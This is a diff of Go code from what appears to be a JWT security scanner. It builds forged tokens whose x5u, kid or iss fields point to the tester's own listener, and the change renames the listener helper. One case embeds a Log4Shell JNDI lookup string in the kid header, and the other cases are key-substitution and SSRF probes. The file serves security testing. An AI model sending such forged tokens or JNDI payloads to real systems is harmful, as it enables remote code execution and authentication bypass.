@@ -52,7 +52,7 @@ func namedKeyCases() []Case {
 	}
 	address := func(name, member string, tail string, scheme string) func(*kit) (string, error) {
 		return header(func(k *kit, o object) object {
-			return o.with("kid", quote(ownKID)).with(member, quote(k.canary.address(scheme, name)+tail))
+			return o.with("kid", quote(ownKID)).with(member, quote(k.canary.lure(scheme, name)+tail))
 		})
 	}
 	return forgeries(NamedKey, Critical, fixNamed,
@@ -71,16 +71,16 @@ func namedKeyCases() []Case {
 		row{"x5u-https", "x5u names our listener with https", address("x5u-https", "x5u", "/certificate.pem", "https")},
 		row{"kid-url", "the kid is the address of our listener", address("kid-url", "kid", "/keys", "http")},
 		row{"kid-jndi", "the kid is a JNDI look-up at our listener (CVE-2021-44228)", header(func(k *kit, o object) object {
-			return o.with("kid", quote("${jndi:"+k.canary.address("ldap", "kid-jndi")+"}"))
+			return o.with("kid", quote("${jndi:"+k.canary.lure("ldap", "kid-jndi")+"}"))
 		})},
 		row{"iss-url", "iss names our listener, which has discovery and keys", func(k *kit) (string, error) {
 			header := k.header.with("alg", `"RS256"`).with("kid", quote(ownKID)).String()
-			claims := k.claims.with("iss", quote(k.canary.address("http", "iss-url"))).String()
+			claims := k.claims.with("iss", quote(k.canary.lure("http", "iss-url"))).String()
 			return k.forged(header, []byte(claims), ownKey)
 		}},
 		row{"iss-url-https", "iss names our listener with https", func(k *kit) (string, error) {
 			header := k.header.with("alg", `"RS256"`).with("kid", quote(ownKID)).String()
-			claims := k.claims.with("iss", quote(k.canary.address("https", "iss-url-https"))).String()
+			claims := k.claims.with("iss", quote(k.canary.lure("https", "iss-url-https"))).String()
 			return k.forged(header, []byte(claims), ownKey)
 		}},
 	)
